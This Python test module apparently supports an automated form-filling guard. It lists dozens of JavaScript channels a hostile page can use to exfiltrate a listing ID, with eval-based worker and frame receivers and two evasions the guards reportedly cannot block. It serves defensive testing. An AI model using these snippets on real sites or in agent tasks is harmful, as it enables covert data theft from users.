"""Ways in which a hostile page can send a listing while the program fills in a form.

Each way is JavaScript that requests `path`, which only that way uses. `ID` is the listing, `here` the page's own
host, and `there` another site on the same server. `PAGE` contains the elements and functions that the ways use.
"""

from __future__ import annotations

PAGE = """<!doctype html><h1>Form</h1>
<form id=form method=post><input name=links><button id=button>Go</button></form>
<iframe name=inner src="/inner"></iframe>
<script>
  const ID = '1005009900000017';
  const here = location.origin;
  const there = here.replace('127.0.0.1', 'localhost');
  const form = document.getElementById('form');
  const add = (name, values) => { const made = Object.assign(document.createElement(name), values); document.body.append(made); return made; };
  const link = (rel, path, more) => document.head.append(Object.assign(document.createElement('link'), { rel, href: `${path}?x=${ID}`, ...more }));
  const sent = (path) => { form.action = path; form.links.value = ID; return form; };
  const code = (text) => URL.createObjectURL(new Blob([text], { type: 'text/javascript' }));
  const page = (text) => URL.createObjectURL(new Blob([text], { type: 'text/html' }));
  const markup = (path) => `<form method=post action='${here}${path}'><input name=l value='${ID}'></form>`;
  const sends = (path) => `${markup(path)}<script>document.forms[0].submit()<` + '/script>';
  const post = (path) => `fetch('${here}${path}', { method: 'POST', body: '${ID}', mode: 'no-cors' })`;
  const foreign = (text) => { const frame = add('iframe', { src: `${there}/does` }); frame.onload = () => frame.contentWindow.postMessage(text, '*'); };
  const ready = (async () => {
    window.oldWorker = new Worker('/does.js');
    window.oldShared = new SharedWorker('/does-shared.js');
    await navigator.serviceWorker.register('/does-service.js');
    await navigator.serviceWorker.ready;
  })();
</script>"""

DOES = {
    "inner": ("<p>Inner</p>", "text/html"),
    "does": ("<script>onmessage = (event) => eval(event.data)</script>", "text/html"),
    "does.js": ("onmessage = (event) => eval(event.data)", "text/javascript"),
    "does-shared.js": (
        "onconnect = ({ ports: [port] }) => { port.onmessage = (event) => eval(event.data); }",
        "text/javascript",
    ),
    "does-service.js": (
        "addEventListener('install', () => skipWaiting()); addEventListener('message', (event) => eval(event.data))",
        "text/javascript",
    ),
}

STAYS = {
    "fetch": "fetch(path, { method: 'POST', body: ID })",
    "fetch that outlives the page": "fetch(path, { method: 'POST', body: ID, keepalive: true })",
    "fetch with the id in the address": "fetch(`${path}?x=${ID}`)",
    "fetch with the id in a header": "fetch(path, { headers: { 'x-id': ID } })",
    "fetch with another method": "fetch(path, { method: 'PUT', body: ID })",
    "fetch of a form with a file": "const data = new FormData(); data.append('f', new Blob([ID]), 'x.txt'); fetch(path, { method: 'POST', body: data })",
    "fetchLater": "fetchLater(path, { method: 'POST', body: ID, activateAfter: 0 })",
    "XMLHttpRequest": "const asked = new XMLHttpRequest(); asked.open('POST', path); asked.send(ID)",
    "synchronous XMLHttpRequest": "const asked = new XMLHttpRequest(); asked.open('POST', path, false); asked.send(ID)",
    "beacon": "navigator.sendBeacon(path, ID)",
    "ping of a link": "const made = add('a', { href: '#x', ping: `${path}?x=${ID}` }); made.click()",
    "picture": "new Image().src = `${path}?x=${ID}`",
    "picture in a srcset": "add('img', { srcset: `${path}?x=${ID} 1x` })",
    "picture of a button": "add('input', { type: 'image', src: `${path}?x=${ID}` })",
    "picture in an SVG": "document.body.insertAdjacentHTML('beforeend', `<svg><image href='${path}?x=${ID}'/></svg>`)",
    "picture in an SVG filter": "document.body.insertAdjacentHTML('beforeend', `<svg><filter id=q><feImage href='${path}?x=${ID}'/></filter><rect width=9 height=9 filter='url(#q)'/></svg>`)",
    "background picture": "add('p', {}).style.background = `url(${path}?x=${ID})`",
    "mask": "add('p', { textContent: 'x' }).style.maskImage = `url(${path}?x=${ID})`",
    "cursor": "add('p', { textContent: 'x' }).style.cursor = `url(${path}?x=${ID}), auto`",
    "style sheet": "link('stylesheet', path)",
    "style sheet imported by a style": "document.head.append(Object.assign(document.createElement('style'), { textContent: `@import '${path}?x=${ID}'` }))",
    "font": "new FontFace('q', `url(${path}?x=${ID})`).load().catch(() => 0)",
    "script": "add('script', { src: `${path}?x=${ID}` })",
    "module": "import(`${path}?x=${ID}`).catch(() => 0)",
    "video": "add('video', { src: `${path}?x=${ID}` }).load()",
    "audio": "new Audio(`${path}?x=${ID}`).load()",
    "subtitles": "const film = add('video', {}); const track = Object.assign(document.createElement('track'), { src: `${path}?x=${ID}`, default: true }); film.append(track); track.track.mode = 'showing'",
    "poster": "add('video', { poster: `${path}?x=${ID}` })",
    "object": "add('object', { data: `${path}?x=${ID}` })",
    "embed": "add('embed', { src: `${path}?x=${ID}` })",
    "frame": "add('iframe', { src: `${path}?x=${ID}` })",
    "prefetch": "link('prefetch', path)",
    "preload": "link('preload', path, { as: 'fetch' })",
    "modulepreload": "link('modulepreload', path)",
    "speculation rules: prefetch": "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ urls: [`${path}?x=${ID}`], eagerness: 'immediate' }] }) })",
    "speculation rules: prerender": "add('script', { type: 'speculationrules', textContent: JSON.stringify({ prerender: [{ urls: [`${path}?x=${ID}`], eagerness: 'immediate' }] }) })",
    "icon": "link('icon', path)",
    "event source": "new EventSource(`${path}?x=${ID}`)",
    "worker": "new Worker('/does.js').postMessage(post(path))",
    "worker from before": "oldWorker.postMessage(post(path))",
    "worker from a blob": "new Worker(code(post(path)))",
    "worker that imports": "new Worker(code(`importScripts('${here}${path}?x=${ID}')`))",
    "address of a worker": "new Worker(`${path}?x=${ID}`)",
    "worker of a worker": "new Worker(code(`new Worker('${here}/does.js').postMessage(${JSON.stringify(post(path))})`))",
    "shared worker": "new SharedWorker('/does-shared.js', path).port.postMessage(post(path))",
    "shared worker from before": "oldShared.port.postMessage(post(path))",
    "address of a shared worker": "new SharedWorker(`${path}?x=${ID}`)",
    "service worker from before": "navigator.serviceWorker.getRegistration().then((found) => found.active.postMessage(post(path)))",
    "address of a service worker": "navigator.serviceWorker.register(`${path}?x=${ID}`).catch(() => 0)",
    "pop-up's fetch": "window.open('', path).fetch(here + path, { method: 'POST', body: ID })",
    "pop-up written by its opener": "const shown = window.open('', path); shown.document.write(sends(path)); shown.document.close()",
    "pop-up": "window.open(`${path}?x=${ID}`)",
    "pop-up without an opener": "window.open(`${path}?x=${ID}`, '_blank', 'noopener')",
    "frame written into the page": "add('iframe', { srcdoc: sends(path) })",
    "frame in a sandbox": "add('iframe', { sandbox: 'allow-forms allow-scripts', srcdoc: sends(path) })",
    "fetch of a frame in a sandbox": "add('iframe', { sandbox: 'allow-scripts', srcdoc: `<script>${post(path)}<\\/script>` })",
    "fetch of another site's frame": "foreign(`fetch('${path}', { method: 'POST', body: '${ID}' })`)",
    "beacon of another site's frame": "foreign(`navigator.sendBeacon('${path}', '${ID}')`)",
    "form of another site's frame": "foreign(`document.body.innerHTML = \"<form method=post action='${path}'><input name=l value='${ID}'></form>\"; document.forms[0].submit()`)",
    "fetch of an empty frame": "add('iframe', {}).contentWindow.fetch(here + path, { method: 'POST', body: ID })",
    "form of an empty frame": "const made = add('iframe', {}).contentDocument; made.body.innerHTML = markup(path); made.forms[0].submit()",
    "frame from a blob": "add('iframe', { src: page(sends(path)) })",
    "frame from a data URL": "add('iframe', { src: 'data:text/html,' + encodeURIComponent(sends(path)) })",
    "form into a frame": "sent(path).target = 'inner'; form.submit()",
    "form into a new tab": "sent(path).target = '_blank'; form.submit()",
    "form into a named window": "window.open('about:blank', 'other'); sent(path).target = 'other'; form.submit()",
    "form sent by GET into a new tab": "sent(path).method = 'get'; form.target = '_blank'; form.submit()",
    "address of a frame": "frames[0].location = `${path}?x=${ID}`",
    "link that downloads": "add('a', { href: `${path}?x=${ID}`, download: 'x' }).click()",
    "audio worklet": "new AudioContext().audioWorklet.addModule(`${path}?x=${ID}`).catch(() => 0)",
    "paint worklet": "CSS.paintWorklet.addModule(`${path}?x=${ID}`).catch(() => 0)",
    "compressed": "new Response(new Blob([ID]).stream().pipeThrough(new CompressionStream('gzip'))).arrayBuffer().then((body) => fetch(path, { method: 'POST', body }))",
    "in UTF-16": "fetch(path, { method: 'POST', body: new Uint16Array([...ID].map((digit) => digit.charCodeAt(0))) })",
}
"""Ways in which a page can send a request while it stays open."""

LEAVES = {
    "submit of a form": "sent(path).submit()",
    "requestSubmit of a form": "sent(path).requestSubmit()",
    "button": "sent(path); document.getElementById('button').click()",
    "form sent by GET": "sent(path).method = 'get'; form.submit()",
    "address of the page": "location = `${path}?x=${ID}`",
    "link": "add('a', { href: `${path}?x=${ID}` }).click()",
    "refresh by a meta element": "document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${path}?x=${ID}` }))",
}
"""Ways in which a page can send a request by navigating to another page."""

NOT_HELD = {
    "address of a WebSocket": "new WebSocket(`${here.replace('http', 'ws')}${path}?x=${ID}`)",
    "id in two halves": "fetch(path, { method: 'POST', body: ID.slice(0, 8) }); fetch(path, { method: 'POST', body: ID.slice(8) })",
}
"""Ways to send a listing that the guards cannot block. The reasons are in docs/decisions.md."""
